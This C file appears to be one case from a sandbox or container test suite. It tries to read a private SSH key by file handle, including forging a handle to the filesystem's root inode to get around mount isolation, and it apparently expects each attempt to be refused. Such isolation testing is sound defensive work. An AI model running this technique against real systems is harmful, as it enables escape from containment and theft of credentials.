// name: open a secret by its file handle, and the root of its file system
// line: 50
// needs: root
#include "attack.h"

struct handle {
    struct file_handle head;
    unsigned char bytes[128];
};

static void by_name(void)
{
    char path[1200];
    struct handle handle = {.head.handle_bytes = 128};
    int mount;
    snprintf(path, sizeof path, "%s/.ssh/id_rsa", stage("home"));
    if (name_to_handle_at(AT_FDCWD, path, &handle.head, &mount, 0) != 0) {
        note("name_to_handle_at");
        return;
    }
    int place = open(".", O_RDONLY);
    secret_from(open_by_handle_at(place, &handle.head, O_RDONLY), "open_by_handle_at");
    close(place);
}

/* Inode 2 is the root of an ext file system, even if only a part of it is mounted here. */
static void by_root_inode(void)
{
    char path[1200];
    struct handle handle = {.head.handle_bytes = 8, .head.handle_type = 1};
    uint32_t inode[2] = {2, 0};
    memcpy(handle.head.f_handle, inode, sizeof inode);
    int place = open(".", O_RDONLY);
    int root = open_by_handle_at(place, &handle.head, O_RDONLY | O_DIRECTORY);
    close(place);
    if (root < 0) {
        note("open_by_handle_at of the root");
        return;
    }
    snprintf(path, sizeof path, "%s/.ssh/id_rsa", stage("home") + 1);
    secret_from(openat(root, path, O_RDONLY), "the root by its handle");
}

int main(void)
{
    by_name();
    by_root_inode();
    refused_all();
}
